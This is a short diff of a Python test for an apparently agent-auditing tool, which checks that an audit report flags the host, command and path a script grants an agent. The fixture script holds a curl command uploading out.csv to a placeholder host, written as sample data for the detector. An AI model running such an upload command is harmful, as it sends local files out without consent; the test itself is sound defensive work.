@@ -66,10 +66,7 @@ def test_what_each_text_and_script_lets_an_agent_do_is_listed_whether_or_not_it_
     script.parent.mkdir()
     script.write_text("#!/bin/sh\ncurl -T out.csv https://drop.example\n", encoding="utf-8")
     ended = skillopt(project, "audit", "--pairs", "20", "-q", "-o", "audit.html")
-    assert (
-        "what the texts let or tell an agent do:\n  new: host: `https://drop.example`; command: `curl`; path"
-        in ended.stdout
-    )
+    assert "capabilities in the texts:\n  new: host: `https://drop.example`; command: `curl`; path" in ended.stdout
     assert "drop.example" in (project / "audit.html").read_text(encoding="utf-8")
     assert "tokens they need: skillopt shrink rows --dry-run" in ended.stdout
 
